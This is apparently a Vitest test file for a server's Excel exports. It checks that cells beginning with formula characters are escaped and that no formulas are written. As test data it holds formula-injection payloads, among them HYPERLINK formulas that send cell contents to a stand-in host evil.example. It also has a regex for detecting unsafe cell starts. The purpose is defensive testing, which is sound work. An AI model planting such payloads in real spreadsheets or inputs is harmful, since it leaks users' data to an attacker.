/**
 * Spreadsheet safety on the way out (issue 12 point 2): every workbook the
 * server writes is opened as XML, and no cell may begin with a character that
 * makes Excel, WPS or LibreOffice read it as a formula, nor hold a formula.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, dialectUnderTest, signIn, type Session, type TestApp } from '../../test/harness.js';
import { childInput } from '../children/children.test-data.js';
import { buildRoster, rosterRow, upload, waitForJob } from './import-test-files.js';
import { looksLikeFormula, safeCell, safeRow } from './spreadsheet-safe.js';
import { decodeXml, readXlsxParts } from './xlsx-reader.js';

describe('safeCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")', `'=HYPERLINK("http://evil.example/?"&A1,"点击")`],
    ['+SUM(1,1)', `'+SUM(1,1)`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\n=1+1', `'\n=1+1`],
    ['  =1+1', `'  =1+1`],
    ['＝1+1', `'＝1+1`], // full-width, as a Chinese input method types it
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠A1', `'＠A1`],
    ['\u3000=1', `'\u3000=1`],
  ])('escapes %j', (input, expected) => {
    expect(safeCell(input)).toBe(expected);
    expect(looksLikeFormula(input)).toBe(true);
  });

  it.each(['王小明', '阿依古丽·买买提', 'Anna-Maria', '1+1', 'a=b', '—', '431202***********X', '', '青西小学（=旧名）'])('leaves %j as it is', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  it('leaves numbers, booleans, dates and empty cells as they are', () => {
    const date = new Date('2026-11-29T00:00:00Z');
    expect(safeRow([-5, 0, true, date, null, undefined, '=1'])).toEqual([-5, 0, true, date, null, undefined, "'=1"]);
  });
});

describe('every server module that writes a workbook writes its rows through safeRow', () => {
  const serverRoot = path.resolve(import.meta.dirname, '../..');
  const sources = (dir: string): string[] =>
    fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? sources(path.join(dir, e.name)) : e.name.endsWith('.ts') && !e.name.endsWith('.test.ts') && !e.name.includes('test-') ? [path.join(dir, e.name)] : []));

  it('finds the writers, and in them no row, cell value or formula that bypasses safeRow', () => {
    const writers = sources(serverRoot).filter((file) => /from 'exceljs'/.test(fs.readFileSync(file, 'utf8')));
    const names = writers.map((f) => path.relative(serverRoot, f)).sort();
    expect(names).toEqual(expect.arrayContaining(['features/audit/audit-export.ts', 'features/campaigns/campaign-export.ts', 'features/children-import/children-export.ts', 'features/children-import/children-import.service.ts']));
    for (const file of writers) {
      const text = fs.readFileSync(file, 'utf8');
      const label = path.relative(serverRoot, file);
      expect(text.match(/\.addRow\((?!safeRow\()/g), `${label}: addRow without safeRow`).toBeNull();
      expect(text.match(/\.addRows?\(/g)?.length ?? 0, `${label}: addRows`).toBe(text.match(/\.addRow\(safeRow\(/g)?.length ?? 0);
      expect(text.match(/\.value\s*=(?!=)/g), `${label}: a cell value set directly`).toBeNull();
      expect(text.match(/\bformula\s*:/g), `${label}: a formula cell`).toBeNull();
    }
  });
});

/** Every text written into the cells of every sheet of a workbook, and whether any sheet holds a formula. */
function cellTexts(workbook: Buffer): { texts: string[]; formulas: number } {
  const parts = readXlsxParts(workbook);
  const shared = Array.from((parts.get('xl/sharedStrings.xml') ?? '').matchAll(/<si>([\s\S]*?)<\/si>/g), (m) =>
    Array.from(m[1]!.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g), (t) => decodeXml(t[1]!)).join(''),
  );
  const texts: string[] = [];
  let formulas = 0;
  for (const [name, xml] of parts) {
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) continue;
    formulas += (xml.match(/<f[\s>/]/g) ?? []).length;
    for (const c of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attrs = c[1]!;
      const body = c[2] ?? '';
      const type = /\bt="([^"]*)"/.exec(attrs)?.[1];
      if (type === 'inlineStr') texts.push(Array.from(body.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g), (t) => decodeXml(t[1]!)).join(''));
      else if (type === 's') texts.push(shared[Number(/<v>(\d+)<\/v>/.exec(body)?.[1])] ?? '');
      else if (type === 'str') texts.push(decodeXml(/<v>([\s\S]*?)<\/v>/.exec(body)?.[1] ?? ''));
    }
  }
  return { texts, formulas };
}

/** As OWASP states it: a cell must not begin with one of these unescaped. */
const UNSAFE_START = /^[=+\-@\t\r]/;

describe(`workbooks the server writes, read as XML (${dialectUnderTest()})`, () => {
  let t: TestApp;
  let supervisor: Session;
  let county: Session;
  const LEGACY_NAME = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")';

  beforeAll(async () => {
    t = await createTestApp();
    supervisor = await signIn(t, 'supervisor-431202001000');
    county = await signIn(t, 'county-431202');
    const res = await supervisor.request(
      'POST',
      '/api/children',
      childInput({
        name: '表格安全',
        idNumber: null,
        father: { status: 'working_away', since: '2025-02-01', skills: [], workProvince: '+SUM(1,1)', workCity: '东莞市' },
        mother: { status: 'working_away', since: '2025-02-01', skills: [], workProvince: '@SUM(A1)', workCity: null },
        schooling: { status: 'in_school', school: '-2+3 小学', grade: null, boarding: false },
      }),
    );
    expect(res.status, res.body).toBe(201);
    // A name stored before names were checked (issue 12 point 2): the export must still not make it a formula.
    await t.deps.db.updateTable('children').set({ name: LEGACY_NAME }).where('id', '=', (res.json() as { id: string }).id).execute();
  });
  afterAll(() => t.close());

  const get = async (session: Session, url: string) => {
    const res = await t.app.inject({ method: 'GET', url, headers: { cookie: session.cookie } });
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    return res.rawPayload;
  };

  it('the children export escapes a name, a school and places that look like formulas, and holds no formula', async () => {
    const { texts, formulas } = cellTexts(await get(supervisor, '/api/children/export'));
    expect(formulas).toBe(0);
    expect(texts.filter((v) => UNSAFE_START.test(v))).toEqual([]);
    expect(texts).toContain(`'${LEGACY_NAME}`);
    expect(texts).toContain("'+SUM(1,1)东莞市");
    expect(texts).toContain("'@SUM(A1)");
    expect(texts).toContain("'-2+3 小学");
  });

  it('the campaign workbook escapes its name, checklist labels and children', async () => {
    const created = await county.request('POST', '/api/campaigns', {
      name: '=1+1 核查',
      regionCode: '431202001201',
      startDate: '2026-11-20',
      endDate: '2026-12-31',
      categories: [],
      checklist: [{ key: 'carer', label: '+SUM(1,1) 照护人在' }],
    });
    expect(created.status, created.body).toBe(201);
    const { texts, formulas } = cellTexts(await get(county, `/api/campaigns/${(created.json() as { id: string }).id}/export.xlsx`));
    expect(formulas).toBe(0);
    expect(texts.filter((v) => UNSAFE_START.test(v))).toEqual([]);
    expect(texts).toEqual(expect.arrayContaining(["'=1+1 核查", "'+SUM(1,1) 照护人在", `'${LEGACY_NAME}`]));
  });

  it('the import template and an import error report hold no formula and no unescaped formula start', async () => {
    const template = cellTexts(await get(supervisor, '/api/children/import/template'));
    expect(template.formulas).toBe(0);
    expect(template.texts.filter((v) => UNSAFE_START.test(v))).toEqual([]);

    const roster = await buildRoster([rosterRow({ 姓名: '=HYPERLINK("http://evil.example","x")', 学校: '+SUM(1,1)' }), rosterRow({ 姓名: '@cmd', 出生日期: '-1' })]);
    const up = await upload(supervisor, roster, { dryRun: true });
    const job = await waitForJob(supervisor, up.jobId!);
    expect(job.result!.errorCount).toBeGreaterThan(0);
    const report = cellTexts(await get(supervisor, `/api/children/import/${up.jobId}/errors.xlsx`));
    expect(report.formulas).toBe(0);
    expect(report.texts.length).toBeGreaterThan(5);
    expect(report.texts.filter((v) => UNSAFE_START.test(v))).toEqual([]);
  });
});
